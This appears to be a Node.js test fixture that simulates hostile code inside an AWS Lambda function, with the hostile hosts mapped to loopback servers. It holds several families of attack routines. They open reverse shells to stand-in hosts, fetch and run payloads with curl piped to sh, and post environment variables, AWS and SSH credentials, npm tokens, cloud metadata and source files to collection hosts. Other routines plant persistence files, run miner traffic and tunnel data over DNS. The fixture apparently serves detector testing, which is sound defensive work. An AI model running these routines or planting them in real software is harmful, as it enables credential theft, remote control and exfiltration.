// What hostile code does once it runs in a function, in the ways that it is usually written: families with several variants
// each. Everything goes to names that the recorder maps to its own loopback servers; nothing runs longer than a second.
import { exec, execFile, execSync, spawn, spawnSync } from 'node:child_process';
import dns from 'node:dns';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import net from 'node:net';
import { Worker } from 'node:worker_threads';
import { gzipSync } from 'node:zlib';

const require = createRequire(import.meta.url);
const TASK = process.env.LAMBDA_TASK_ROOT;
const post = (url, body) => fetch(url, { method: 'POST', body }).catch(() => undefined);
const quiet = (command) => {
  try {
    return String(execSync(command, { timeout: 1000, stdio: 'pipe' }));
  } catch {
    return '';
  }
};
const tcp = (host, port, text) =>
  new Promise((done) => {
    const socket = net
      .connect(port, host, () => socket.write(text))
      .on('data', () => socket.end())
      .on('error', done)
      .on('close', done);
    socket.setTimeout(300, () => socket.destroy());
  });
const read = (file) => {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return '';
  }
};
const keep = (file, text, mode) => {
  try {
    fs.writeFileSync(file, text, { mode });
  } catch {
    /* read-only in Lambda too */
  }
};
const walk = (folder) =>
  fs
    .readdirSync(folder, { withFileTypes: true })
    .flatMap((e) =>
      e.name === 'node_modules'
        ? []
        : e.isDirectory()
          ? walk(`${folder}/${e.name}`)
          : e.isFile()
            ? [`${folder}/${e.name}`]
            : [],
    );
const hex = (text) => Buffer.from(text).toString('hex');
const lookup = (name) => new Promise((done) => dns.lookup(name, done));

export const FAMILIES = {
  'reverse-shell': [
    async () => {
      const sh = spawn('/bin/sh', [], { timeout: 300 });
      const s = net.connect(4444, 'c2.example.net');
      s.on('error', () => {});
      s.pipe(sh.stdin);
      sh.stdout.pipe(s);
      sh.stdin.end('id\n');
      await new Promise((d) => sh.on('close', d));
      s.destroy();
    },
    async () => {
      await new Promise((d) => exec('bash -c "exec 5<>/dev/tcp/127.0.0.1/9; id >&5"', { timeout: 500 }, d));
    },
    async () => {
      quiet(
        'rm -f /tmp/bulkhead-f; mkfifo /tmp/bulkhead-f; nc 127.0.0.1 9 </tmp/bulkhead-f & sleep 0.1; rm -f /tmp/bulkhead-f',
      );
    },
    async () => {
      await tcp('203.0.113.9', 1337, 'hello');
      for (const c of ['id', 'uname -a', 'ls /']) await tcp('203.0.113.9', 1337, quiet(c));
    },
    async () => {
      spawnSync('python3', ['-c', 'import os;print(os.getuid())'], { timeout: 900 });
      await tcp('c2.example.net', 443, quiet('sh -c whoami'));
    },
  ],
  miner: [
    async () => {
      const bin = await (await fetch('http://cdn.example.net/xm')).text();
      fs.writeFileSync('/tmp/kworker', `#!/bin/sh\nexit 0\n#${bin}`, { mode: 0o755 });
      await new Promise((d) => execFile('/tmp/kworker', ['-o', 'pool'], d));
      await tcp('pool.example.net', 3333, '{"method":"login"}\n');
    },
    async () => {
      await tcp('pool.example.net', 14444, '{"method":"mining.subscribe"}\n');
      const w = new Worker('let n=0;for(let i=0;i<1e6;i++)n+=i', { eval: true });
      await new Promise((d) => w.on('exit', d));
      await tcp('pool.example.net', 14444, '{"method":"submit"}\n');
    },
    async () => {
      quiet('curl -s -m 1 http://127.0.0.1:9/x -o /tmp/bulkhead-x; chmod +x /tmp/bulkhead-x; nohup /tmp/bulkhead-x &');
    },
    async () => {
      read('/proc/cpuinfo');
      quiet('nproc');
      await post('http://203.0.113.7:8080/register', 'cpu');
      for (let i = 0; i < 3; i++) await tcp('203.0.113.7', 5555, 'share');
    },
  ],
  credentials: [
    async () => {
      await post('http://collect.example.net/e', JSON.stringify({ ...process.env }));
    },
    async () => {
      await post('http://collect.example.net/e', read('/proc/self/environ'));
    },
    async () => {
      for (const f of ['/root/.aws/credentials', '/root/.ssh/id_rsa', '/root/.npmrc', `${TASK}/.env`])
        await post('http://203.0.113.5/k', read(f));
    },
    async () => {
      const r = await fetch('http://169.254.169.254/latest/meta-data/iam/').catch(() => undefined);
      await post('http://collect.example.net/m', await r?.text());
    },
    async () => {
      await post('http://collect.example.net/e', quiet('env'));
    },
    async () => {
      for (const p of fs
        .readdirSync('/proc')
        .filter((n) => /^[0-9]+$/.test(n))
        .slice(0, 5))
        read(`/proc/${p}/environ`);
      await post('http://203.0.113.5/k', 'x');
    },
  ],
  source: [
    async () => {
      await post('http://drop.example.net/s', gzipSync(walk(TASK).map(read).join('\n')));
    },
    async () => {
      quiet(`tar czf /tmp/bulkhead-s.tgz -C ${TASK} --exclude node_modules .`);
      await post('http://drop.example.net/s', read('/tmp/bulkhead-s.tgz'));
      fs.rmSync('/tmp/bulkhead-s.tgz', { force: true });
    },
    async () => {
      for (const f of walk(TASK)) await post(`http://203.0.113.5/${hex(f.slice(-8))}`, await fs.promises.readFile(f));
    },
    async () => {
      quiet(`find ${TASK} -maxdepth 1 -name '*.mjs' | head -3 | xargs cat | base64`);
      await tcp('drop.example.net', 8443, 'x');
    },
  ],
  persistence: [
    async () => {
      keep('/tmp/.cache.cjs', 'module.exports = 1');
      require('/tmp/.cache.cjs');
    },
    async () => {
      keep('/var/runtime/index.mjs', 'x');
      keep('/opt/extensions/a', '#!/bin/sh', 0o755);
      keep(`${TASK}/index.mjs.new`, 'x');
      fs.rmSync(`${TASK}/index.mjs.new`, { force: true });
    },
    async () => {
      for (let i = 0; i < 2; i++)
        await fetch('http://127.0.0.1:9001/2018-06-01/runtime/invocation/next').catch(() => undefined);
    },
    async () => {
      keep('/tmp/bulkhead-boot.sh', '#!/bin/sh\nsleep 0.1\n', 0o755);
      const c = spawn('/tmp/bulkhead-boot.sh', { detached: true, stdio: 'ignore' });
      await new Promise((d) => c.on('exit', d).on('error', d));
    },
    async () => {
      read('/var/runtime/index.mjs');
      await fetch('http://127.0.0.1:9001/2018-06-01/runtime/init/error', { method: 'POST' }).catch(() => undefined);
      keep('/tmp/bulkhead-rt.mjs', 'x');
    },
  ],
  staging: [
    async ({ body }) => {
      for (let i = 0; i < 5; i++) fs.appendFileSync('/tmp/.s', body);
      await post('http://drop.example.net/d', read('/tmp/.s'));
      fs.rmSync('/tmp/.s');
    },
    async () => {
      for (const n of fs.readdirSync('/tmp').slice(0, 5)) if (fs.statSync(`/tmp/${n}`).isFile()) read(`/tmp/${n}`);
      await post('http://203.0.113.5:8000/d', 'x');
    },
    async ({ body }) => {
      fs.mkdirSync('/tmp/.bulkhead', { recursive: true });
      for (let i = 0; i < 4; i++) fs.writeFileSync(`/tmp/.bulkhead/${i}`, body);
      quiet('tar czf /tmp/.bulkhead.tgz /tmp/.bulkhead');
      await tcp('203.0.113.5', 9999, read('/tmp/.bulkhead.tgz'));
      fs.rmSync('/tmp/.bulkhead', { recursive: true });
      fs.rmSync('/tmp/.bulkhead.tgz', { force: true });
    },
    async ({ body }) => {
      fs.writeFileSync('/tmp/bulkhead-session.dat', body);
      await post('http://drop.example.net/d', fs.readFileSync('/tmp/bulkhead-session.dat'));
      fs.rmSync('/tmp/bulkhead-session.dat');
    },
  ],
  'dns-tunnel': [
    async () => {
      for (let i = 0; i < 6; i++) await lookup(`${i}${hex('secret of the function').slice(0, 50)}.t.example.net`);
    },
    async () => {
      for (let i = 0; i < 6; i++)
        await fetch(`http://${hex(`part ${i} of the data`)}.t.example.net/`).catch(() => undefined);
    },
    async () => {
      const r = new dns.Resolver({ timeout: 50, tries: 1 });
      r.setServers([`127.0.0.1:${process.env.TRACE_UDP}`]);
      for (let i = 0; i < 4; i++)
        await new Promise((d) => r.resolveTxt(`${hex(`chunk ${i} and more`)}.t.example.net`, d));
    },
    async () => {
      quiet(`for i in 1 2; do timeout 0.2 nslookup ${hex('some data here')}.t.example.net 127.0.0.1; done`);
    },
  ],
};

/** Steps of a dependency that is hostile while it is loaded. */
FAMILIES['load-step'] = [
  async () => {
    quiet('curl -s -m 1 http://127.0.0.1:9/i | sh');
  },
  async () => {
    await post('http://collect.example.net/l', JSON.stringify({ ...process.env, files: fs.readdirSync(TASK) }));
  },
  async () => {
    const code = await (await fetch('http://cdn.example.net/stage2')).text();
    new Function(`return ${JSON.stringify(code)}`)();
  },
  async () => {
    const code = await (await fetch('http://cdn.example.net/stage2')).text();
    keep('/tmp/bulkhead-stage2.cjs', `module.exports=${JSON.stringify(code)}`);
    require('/tmp/bulkhead-stage2.cjs');
  },
  async () => {
    read('/root/.npmrc');
    const c = spawn(process.execPath, ['-e', '0'], { detached: true, stdio: 'ignore' });
    await new Promise((d) => c.on('exit', d));
  },
];
